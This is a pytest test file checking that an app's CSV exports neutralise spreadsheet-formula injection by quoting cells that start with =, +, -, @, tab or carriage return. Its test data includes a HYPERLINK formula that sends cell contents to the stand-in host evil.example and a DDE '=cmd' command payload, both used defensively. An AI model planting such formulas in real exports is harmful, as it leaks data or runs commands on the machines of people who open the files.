"""Spreadsheet formulas in CSV exports (issue #19, point 1). Free text that reaches a CSV (a
VSE theme, any name or note) must not run as a formula when an officer opens the file in
Excel or LibreOffice: a cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is
prefixed with a single quote (OWASP's CSV-injection rule), while numbers stay numbers."""

import csv
import io
from datetime import date

import pytest

from app.core.media_types import csv_cell, csv_document
from tests.assurance.conftest import (
    GRADES,
    School,
    create_vse,
    move_vse,
    patch_vse,
    school,  # noqa: F401 - the fixture
)

HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"Open the report")'


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTAB", "'\tTAB"), ("\rCR", "'\rCR"), ("-2.5 fell", "'-2.5 fell"), ("-2+3", "'-2+3"),
    ("curriculum", "curriculum"), ("a=b", "a=b"), ("", ""),
    # Numbers are numbers, whether the figure is a number or text that is exactly one.
    (-2.5, "-2.5"), (-3, "-3"), (0, "0"), (1.25, "1.25"), ("-2.5", "-2.5"), ("+4", "+4"),
    ("-1e3", "-1e3"), (None, ""), (date(2025, 11, 3), "2025-11-03"),
])
def test_a_cell_that_would_start_a_formula_gets_a_quote_and_numbers_stay_numbers(value, written):
    assert csv_cell(value) == written


def test_the_document_writer_neutralises_every_cell_header_included():
    text = csv_document(["=name", "value"], [("=cmd|' /C calc'!A0", -1.5), ("plain", 2)]).decode()
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=name", "value"], ["'=cmd|' /C calc'!A0", "-1.5"], ["plain", "2"]]


def _cells(answer) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(answer.text)))


def test_a_hostile_vse_theme_reaches_the_authority_and_region_csv_neutralised(api, make,
                                                                             school: School):  # noqa: F811
    themes = [HOSTILE, "+cmd", "-2+3", "@sum(1+1)", "curriculum design"]
    cycle = create_vse(api, school)
    assert move_vse(api, cycle["id"], "schedule", school.link_officer).status_code == 200
    assert move_vse(api, cycle["id"], "start", school.link_officer).status_code == 200
    assert patch_vse(api, cycle["id"], {"evaluations": GRADES, "themes": themes},
                     school.link_officer).status_code == 200
    assert move_vse(api, cycle["id"], "report", school.link_officer).status_code == 200

    authority = school.establishment.authority_id
    region = make.region().id
    lead = make.headers(make.user("regional_lead"))
    for url, headers in ((f"/api/v1/summaries/authorities/{authority}", school.link_officer),
                         (f"/api/v1/summaries/regions/{region}", lead)):
        rows = _cells(api.get(url, params={"session": "2025-26"},
                              headers={**headers, "Accept": "text/csv"}))
        dimensions = {row[4] for row in rows if row[3] == "vse.themes"}
        assert "'" + HOSTILE.lower() in dimensions, url
        assert {"'+cmd", "'-2+3", "'@sum(1+1)", "curriculum design"} <= dimensions, url
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)
                       for row in rows for cell in row), url
        # A negative figure is still a number: the accuracy of self-evaluation can be below 0.
        values = [row[5] for row in rows]
        assert all(not v.startswith("'") for v in values), url


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
